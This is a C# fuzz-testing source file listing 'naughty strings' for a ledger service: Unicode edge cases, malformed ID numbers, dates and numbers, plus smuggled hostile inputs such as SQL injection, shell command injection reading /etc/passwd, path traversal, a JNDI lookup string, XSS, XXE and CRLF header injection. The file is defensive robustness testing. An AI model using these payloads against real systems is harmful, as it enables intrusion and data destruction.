namespace ServiceLedger.Load.Fuzz;

/// <summary>Texts that break what is not careful with them. None holds a word that an answer would hold anyway.</summary>
static class NaughtyStrings
{
    public static readonly string[] All =
    [
        // Nothing, blanks, and what only looks like them.
        "", " ", "\t", "\r\n", "\u00A0", "\u3000", "\u200B\u200B\u200B", "\u2060", "\uFEFF", "\u180E", "\u2028", "\u2029", "\u0085",
        // What a database, a shell, a template or a log would take for its own.
        "'; drop table ledger.mt_events; --", "' or '1'='1", "1; select pg_sleep(9)", "$1::uuid", "%' escape '\\' --", "\\'; vacuum full; --", "{\"$ne\":null}", "'||(select current_user)||'",
        "$(touch /tmp/naughty)", "`id`", "; cat /etc/passwd", "| shutdown now", "../../../../etc/shadow", "..\\..\\windows\\win.ini", "file:///etc/hostname", "%2e%2e%2fappsettings.json",
        "{{7*7}}", "${jndi:ldap://naughty.invalid/a}", "#{7*7}", "@(7*7)", "<%= 7*7 %>", "{0}{1}{2}{99}", "%s%n%x%p%1$s", "{:>999999999}", "{0:D999999999}",
        "a\r\nSet-Cookie: naughty=1", "a\nContent-Length: 0\n\n", "a\r\n\r\nHTTP/1.1 200 OK", "urn:serviceledger:naughty", "=cmd|'/c calc'!A0", "+1+1", "@sum(A1:A9)", "＝1＋1",
        // What a page would run.
        "<script>alert(7391)</script>", "\"><img src=x onerror=alert(7391)>", "javascript:alert(7391)", "<svg/onload=alert(7391)>", "</textarea><script>7391</script>", "&lt;b&gt;", "<!--", "]]>", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
        // Writing that runs the other way, stacks, hides or is wide.
        "\u202Eأخبار سيئة\u202C", "שלום 123 עולם", "\u2066\u2067\u2068\u2069", "\u061C\u200E\u200F", "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034D", "e\u0301\u0301\u0301\u0301", "\u0301王", "👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "👍🏽", "🇨🇳🇨", "\u20E3", "ﷺﷺﷺ", "𝒯𝑒𝓈𝓉", "Ⅷ⑧㈧", "ǅǈǋ", "ßẞſ", "İıİı", "ﬀﬁﬂ",
        // Rare characters of plane 2 and 3, private use, compatibility forms and radicals.
        "𠀀𠀁", "𪚥𪚥", "𬺓", "𰻝𰻞", "\U00030000", "㐂㑇", "\uFA0E\uFA0F", "\u2F00\u2E80", "\uE000\uE001", "\U000F0000", "\u4E00\uFE00", "邊\U000E0100", "〇〡〢",
        // Digits and letters that are not what they seem.
        "１２３４５６", "٠١٢٣٤", "०१२३", "𝟙𝟚𝟛", "1Ο0l", "раураl", "ＬｉＨｕａ", "一二三",
        // Numbers of people that are none: wrong check digit, wrong day, wrong length, small x, blanks, full width.
        "500103198001020000", "50010319800230001X", "50010319800102000x", "500103800102000", "5001031980010200000", "５００１０３１９８００１０２０００Ｘ", "500103 19800102 000X", "000000000000000000", "99999999999999999X",
        // Numbers, moments and ids that go too far.
        "-1", "0x7fffffff", "1e309", "-0", "NaN", "Infinity", "9223372036854775808", "0.1e-400", "1_000", "0001-01-01", "9999-12-31", "2026-02-30", "2026-13-01", "2026-02-29T25:61:61Z", "0000-00-00T00:00:00Z", "+275760-09-13", "2026-W09-1",
        "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "{01980000-0000-7000-8000-000000000001}", "01980000000070008000000000000001", "01980000-0000-7000-8000-00000000000g",
        // Control characters and code points that are none.
        "\u0000", "a\u0000b", "\u0007\u0008\u001B[31m", "\u007F", "\uFFFE", "\uFFFF", "\uFFFD", "\u0001\u0002\u0003", "\U0001FFFE",
        "null", "true", "undefined", "[object Object]", "__proto__", "constructor", "$type", "\\u0000", "\\", "\"", "'", "%", "%00", "%25%30%30", "?", "#", "&a=b", ";", ",", "|", "~", new('长', 300), new('a', 5000)
    ];
}
